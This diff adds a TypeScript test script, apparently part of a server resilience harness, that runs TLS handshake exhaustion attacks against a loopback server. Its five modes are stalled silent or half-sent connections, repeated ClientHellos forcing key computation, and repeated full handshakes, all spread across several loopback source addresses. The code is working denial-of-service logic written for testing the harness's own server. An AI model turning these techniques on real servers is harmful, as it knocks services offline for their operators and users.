@@ -1,0 +1,101 @@
+/**
+ * TLS handshakes of which the server has the work and the attacker none, in the ways that the first
+ * argument names: connections that say nothing, half a ClientHello, a whole one and then nothing,
+ * or everything again and again. They come from many addresses of this machine's loopback.
+ */
+import { connect, type Socket } from "node:net";
+import { connect as connectTls } from "node:tls";
+import { type Attack, runAttack } from "./script.ts";
+
+/** Of openssl s_client: TLS 1.3 with X25519, so that the server computes a key at once. */
+const CLIENT_HELLO = Buffer.from(
+  [
+    "FgMBAM8BAADLAwPTT1YpD9872iVTEMAwKCzgqBZvg7ny0eYXe+4IQIdFKiD26J181G+YV7jVg5g9",
+    "/XxmxTVpJu8tbB3SCbqN34Pg9gAEEwEA/wEAAH4ACwAEAwABAgAKAAQAAgAdACMAAAAQAAUAAwJo",
+    "MgAWAAAAFwAAAA0AHgAcBAMFAwYDCAcICAgJCAoICwgECAUIBgQBBQEGAQArAAMCAwQALQACAQEA",
+    "MwAmACQAHQAgt+2GwD7DDfgRHhKBvALg+eBMt0b1A/EB9+eDnLM1UxI=",
+  ].join(""),
+  "base64",
+);
+
+/** As many as an attacker opens with ease; more than the server keeps waiting. */
+const STALLED_COUNT = 2000;
+const SOURCE_COUNT = 8;
+/** At once; each is closed when it has cost the server its part, and another comes. */
+const WORKERS = 16;
+
+const MODES: Readonly<Record<string, (attack: Attack) => Promise<void>>> = {
+  silent: (attack) => stall(attack, Buffer.alloc(0)),
+  "half a ClientHello": (attack) => stall(attack, CLIENT_HELLO.subarray(0, 100)),
+  "a ClientHello, then nothing": (attack) => stall(attack, CLIENT_HELLO),
+  "a ClientHello, again and again": (attack) => again(attack, helloOnce),
+  "whole handshakes, again and again": (attack) => again(attack, shakeOnce),
+};
+
+await runAttack(async (attack) => {
+  const [name = ""] = attack.args;
+  const mode = MODES[name];
+  if (mode === undefined) throw new Error(`no such way: ${name}`);
+  await mode(attack);
+});
+
+/** Opens all and keeps them; counts those that the server ends. */
+async function stall(attack: Attack, first: Buffer): Promise<void> {
+  const open = new Set<Socket>();
+  let isOver = false;
+  attack.begin();
+  for (let i = 0; i < STALLED_COUNT && !attack.over; i++) {
+    // 127.0.0.1 is that of the client who behaves.
+    const localAddress = `127.0.1.${1 + (i % SOURCE_COUNT)}`;
+    const socket = connect({ host: "127.0.0.1", port: attack.port, localAddress });
+    socket.on("connect", () => {
+      attack.count("connections");
+      if (first.length > 0) socket.write(first);
+    });
+    socket.on("error", () => undefined); // its close is counted
+    socket.on("close", () => {
+      open.delete(socket);
+      if (!isOver) attack.end("cut");
+    });
+    open.add(socket);
+    if (i % 100 === 99) await Bun.sleep(1);
+  }
+  await Bun.sleep(attack.leftMs);
+  isOver = true;
+  for (const socket of open) socket.destroy();
+}
+
+async function again(attack: Attack, once: (attack: Attack) => Promise<void>): Promise<void> {
+  attack.begin();
+  const workers = Array.from({ length: WORKERS }, async () => {
+    while (!attack.over) await once(attack);
+  });
+  await Promise.all(workers);
+}
+
+/** Until the server has answered with its part of the key. */
+async function helloOnce(attack: Attack): Promise<void> {
+  const { promise, resolve } = Promise.withResolvers<void>();
+  const socket = connect({ host: "127.0.0.1", port: attack.port });
+  socket.on("connect", () => socket.write(CLIENT_HELLO));
+  socket.on("data", () => {
+    attack.count("hellos answered");
+    socket.destroy();
+  });
+  socket.on("error", () => attack.end("error"));
+  socket.on("close", () => resolve());
+  await promise;
+}
+
+async function shakeOnce(attack: Attack): Promise<void> {
+  const { promise, resolve } = Promise.withResolvers<void>();
+  const where = { host: "127.0.0.1", port: attack.port, servername: "localhost" };
+  const socket = connectTls({ ...where, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
+  socket.on("secureConnect", () => {
+    attack.count("handshakes");
+    socket.destroy();
+  });
+  socket.on("error", () => attack.end("error"));
+  socket.on("close", () => resolve());
+  await promise;
+}
